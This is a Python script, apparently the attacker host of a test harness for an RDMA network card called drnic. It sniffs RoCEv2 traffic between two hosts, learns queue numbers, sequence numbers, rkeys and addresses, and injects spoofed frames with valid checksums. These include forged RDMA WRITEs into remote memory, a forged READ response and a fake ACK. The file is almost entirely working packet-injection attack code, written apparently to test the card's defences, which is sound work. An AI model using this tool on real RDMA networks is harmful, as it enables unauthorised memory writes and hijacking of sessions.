#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""The third host of three_hosts.sh: sniffs the RC traffic of two drnic hosts
on a hub, learns what it needs (QPNs, PSNs, rkey, address, MACs, IPs) and, on
commands read from stdin one per line, injects RoCEv2 frames whose ICRC is
valid: computed by scapy's own RoCE layer (scapy.contrib.roce.BTH) for IPv4,
and here with zlib (IBA annex A17) for IPv6, which scapy 2.5 leaves at 0.
Nothing here comes from drnic's code.

Commands (each answered by a line "done CMD ..." or "error CMD ..."); N,
where given, is how many requests A has had completed so far: the command
first waits until the sniffer has seen that many and B's answer to the last
(the sniffer runs behind the hosts), so that the PSNs it uses are current:
  learn N       wait as said, then report what was learned
  own_write N     WRITE from C's own MAC and IP to B's QP
  wrong_dst_ip N  WRITE from A's MAC and IP to another destination IP
  ipv6 N          WRITE over IPv6 (A's and B's IPv4-mapped addresses) to the
                  IPv4 QP
  bad_pkey N      WRITE from A's MAC and IP with P_Key 0x1234
  forged_read     say "armed forged_read", wait for A's next READ request,
                  answer it from C's MAC and IP
  ghost_ack N     ACK from B's MAC and IP for a PSN 1000 past A's last one
  quit
WRITEs go at the PSN B expects next (its last ACK + 1), 8 bytes each into
B's first slot at offset 8 * (attack number), tagged with the attack's name,
so the server's slot report says which landed. After each WRITE the command
waits WATCH_S for B to answer that PSN and says what it saw.

Usage: attacker.py IFACE IP [--dry]   (IP: this host's own address, for
own_write and forged_read; --dry: sniff and answer every command, send
nothing, to check the harness without an attack)
"""
import struct
import sys
import threading
import zlib

from scapy.all import AsyncSniffer, Ether, IP, IPv6, Raw, UDP, conf, get_if_hwaddr, raw
from scapy.contrib.roce import AETH, BTH

WATCH_S = 0.3
OP_WRITE_ONLY, OP_READ_REQ, OP_READ_RESP_ONLY, OP_ACK = 0x0a, 0x0c, 0x10, 0x11
ATTACKS = ["own_write", "wrong_dst_ip", "ipv6", "bad_pkey"]
TAGS = {"own_write": b"OWNWRITE", "wrong_dst_ip": b"WRONGDST",
        "ipv6": b"IPV6ATCK", "bad_pkey": b"BADPKEY!", "forged_read": b"FORGEDRD"}


def psn_ge(a, b):
    return ((a - b) & 0xffffff) < 0x800000


def out(*a):
    print(*a, flush=True)


DRY_NOTE = " [dry: not sent]"


class Wire:
    """What was seen on the hub (sniffer thread writes, commands read)."""

    def __init__(self):
        self.lock = threading.Condition()
        self.a = None          # (mac, ip) of the requester (A)
        self.b = None          # (mac, ip) of the responder (B)
        self.b_qpn = self.a_qpn = None
        self.rkey = self.va0 = None
        self.a_last_psn = None  # PSN of A's latest request
        self.a_reqs = set()     # PSNs of A's requests (retransmissions once)
        self.b_last_ack = None  # PSN of B's latest ACK or READ response
        self.msn = 0
        self.reads = []        # (psn, dmalen) of A's READ requests
        self.b_answers = []    # (opcode, psn, syndrome) of B's responses

    def handle(self, p):
        if BTH not in p or IP not in p:
            return
        bth = p[BTH]
        op = bth.opcode
        body = raw(bth.payload)
        with self.lock:
            if op in (OP_WRITE_ONLY, OP_READ_REQ):
                va, rkey, dlen = struct.unpack("!QII", body[:16])
                if self.a is None:
                    self.a = (p[Ether].src, p[IP].src)
                    self.b = (p[Ether].dst, p[IP].dst)
                if (p[Ether].src, p[IP].src) != self.a:
                    return
                self.b_qpn = bth.dqpn
                self.a_last_psn = bth.psn
                self.a_reqs.add(bth.psn)
                if op == OP_WRITE_ONLY and self.va0 is None:
                    self.va0, self.rkey = va, rkey
                if op == OP_READ_REQ:
                    self.reads.append((bth.psn, dlen))
            elif op in (OP_ACK, OP_READ_RESP_ONLY) and self.b is not None and \
                    (p[Ether].src, p[IP].src) == self.b:
                syn, msn = body[0], int.from_bytes(body[1:4], "big")
                self.a_qpn = bth.dqpn
                self.msn = msn
                if op == OP_READ_RESP_ONLY or (syn & 0xe0) == 0:
                    self.b_last_ack = bth.psn
                self.b_answers.append((op, bth.psn, syn))
            self.lock.notify_all()

    def wait(self, cond, timeout):
        with self.lock:
            return self.lock.wait_for(cond, timeout)

    def synced(self, n):
        """A's first n requests seen, and B's answer to the latest."""
        return len(self.a_reqs) >= n and self.a_qpn is not None and \
            self.b_last_ack is not None and psn_ge(self.b_last_ack, self.a_last_psn)


def icrc_ipv6(frame):
    """The ICRC of an Ethernet/IPv6/UDP/BTH frame (IBA A17.8): CRC-32 over 8
    bytes of ones, the IPv6 header with traffic class, flow label and hop
    limit set to ones, UDP with its checksum set to ones, BTH with byte 4
    set to ones, the rest up to the ICRC; least significant byte first."""
    ip = bytearray(frame[14:54])
    ip[0] |= 0x0f
    ip[1:4] = b"\xff\xff\xff"
    ip[7] = 0xff
    udp = bytearray(frame[54:62])
    udp[6:8] = b"\xff\xff"
    ib = bytearray(frame[62:-4])
    ib[4] = 0xff
    return struct.pack("<I", zlib.crc32(b"\xff" * 8 + bytes(ip) + bytes(udp) + bytes(ib)))


class Attacker:
    def __init__(self, iface, ip, dry):
        self.dry = dry
        self.iface = iface
        self.mac = get_if_hwaddr(iface)
        self.ip = ip
        self.w = Wire()
        self.sock = conf.L2socket(iface=iface)
        self.sent = 0
        self.listening = threading.Event()
        self.sniffer = AsyncSniffer(iface=iface, filter="inbound and udp dst port 4791",
                                    prn=self.w.handle, store=False,
                                    started_callback=self.listening.set)

    def send(self, frame):
        if self.dry:
            return
        self.sock.send(frame)
        self.sent += 1

    def note(self):
        return DRY_NOTE if self.dry else ""

    def b_expected(self):
        w = self.w
        return ((w.b_last_ack if w.b_last_ack is not None else w.a_last_psn) + 1) & 0xffffff

    def write(self, name):
        w = self.w
        k = ATTACKS.index(name)
        psn = self.b_expected()
        reth = struct.pack("!QII", w.va0 + 8 * k, w.rkey, 8)
        bth = BTH(opcode=OP_WRITE_ONLY, pkey=0xffff, dqpn=w.b_qpn, ackreq=1, psn=psn)
        src_mac, src_ip, dst_ip = w.a[0], w.a[1], w.b[1]
        if name == "own_write":
            src_mac, src_ip = self.mac, self.ip
        elif name == "wrong_dst_ip":
            dst_ip = w.b[1].rsplit(".", 1)[0] + ".99"
        elif name == "bad_pkey":
            bth.pkey = 0x1234
        eth = Ether(src=src_mac, dst=w.b[0])
        if name == "ipv6":
            l3 = IPv6(src="::ffff:" + src_ip, dst="::ffff:" + dst_ip, hlim=64)
            f = bytearray(raw(eth / l3 / UDP(sport=0xc0de, dport=4791, chksum=0) /
                              BTH(opcode=OP_WRITE_ONLY, dqpn=w.b_qpn, ackreq=1, psn=psn,
                                  icrc=0) / Raw(reth + TAGS[name])))
            f[-4:] = icrc_ipv6(f)
            frame = bytes(f)
        else:
            l3 = IP(src=src_ip, dst=dst_ip, flags="DF", ttl=64, id=0)
            frame = eth / l3 / UDP(sport=0xc0de, dport=4791, chksum=0) / bth / \
                Raw(reth + TAGS[name])
        n0 = len(w.b_answers)
        self.send(frame)
        got = w.wait(lambda: any(a[1] == psn for a in w.b_answers[n0:]), WATCH_S)
        if got:
            ans = [a for a in w.b_answers[n0:] if a[1] == psn][0]
            what = "B answered opcode 0x%02x psn 0x%06x syndrome 0x%02x (the WRITE was taken)" % ans
        else:
            what = "no answer from B"
        out("done %s psn=0x%06x va=0x%x: %s%s" % (name, psn, w.va0 + 8 * k, what, self.note()))

    def forged_read(self):
        w = self.w
        n0 = len(w.reads)
        out("armed forged_read")
        if not w.wait(lambda: len(w.reads) > n0, 20):
            out("error forged_read: no READ request from A")
            return
        psn, dlen = w.reads[n0]
        data = (TAGS["forged_read"] * (dlen // 8 + 1))[:dlen]
        frame = Ether(src=self.mac, dst=w.a[0]) / \
            IP(src=self.ip, dst=w.a[1], flags="DF", ttl=64, id=0) / \
            UDP(sport=0xc0de, dport=4791, chksum=0) / \
            BTH(opcode=OP_READ_RESP_ONLY, dqpn=w.a_qpn, psn=psn) / \
            AETH(syndrome=0x1f, msn=(w.msn + 1) & 0xffffff) / Raw(data)
        self.send(frame)
        out("done forged_read psn=0x%06x: %d bytes from %s%s" % (psn, dlen, self.ip, self.note()))

    def ghost_ack(self):
        w = self.w
        psn = (w.a_last_psn + 1000) & 0xffffff
        frame = Ether(src=w.b[0], dst=w.a[0]) / \
            IP(src=w.b[1], dst=w.a[1], flags="DF", ttl=64, id=0) / \
            UDP(sport=0xc0de, dport=4791, chksum=0) / \
            BTH(opcode=OP_ACK, dqpn=w.a_qpn, psn=psn) / \
            AETH(syndrome=0x1f, msn=(w.msn + 1000) & 0xffffff)
        self.send(frame)
        out("done ghost_ack psn=0x%06x (A's last request 0x%06x)%s" % (psn, w.a_last_psn,
                                                                       self.note()))

    def learn(self):
        w = self.w
        out("done learn a=%s/%s b=%s/%s b_qpn=0x%06x a_qpn=0x%06x rkey=0x%08x va=0x%x "
            "a_last_psn=0x%06x" % (w.a[0], w.a[1], w.b[0], w.b[1], w.b_qpn, w.a_qpn,
                                   w.rkey, w.va0, w.a_last_psn))

    def run(self):
        self.sniffer.start()
        # AsyncSniffer opens its socket in its thread: wait until it does.
        if not self.listening.wait(10):
            sys.exit("cannot sniff on %s" % self.iface)
        out("sniffing on %s (%s)" % (self.iface, self.mac))
        for line in sys.stdin:
            cmd = line.split()
            if not cmd:
                continue
            if cmd[0] == "quit":
                break
            if len(cmd) > 1 and not self.w.wait(lambda: self.w.synced(int(cmd[1])), 20):
                out("error %s: %s requests of A answered by B not seen" % (cmd[0], cmd[1]))
                continue
            if cmd[0] == "learn":
                self.learn()
            elif cmd[0] in ATTACKS:
                self.write(cmd[0])
            elif cmd[0] == "forged_read":
                self.forged_read()
            elif cmd[0] == "ghost_ack":
                self.ghost_ack()
            else:
                out("error %s: unknown command" % cmd[0])
        self.sniffer.stop()
        out("sent %d frames" % self.sent)


if __name__ == "__main__":
    if len(sys.argv) not in (3, 4) or sys.argv[3:] not in ([], ["--dry"]):
        sys.exit(__doc__)
    Attacker(sys.argv[1], sys.argv[2], sys.argv[3:] == ["--dry"]).run()
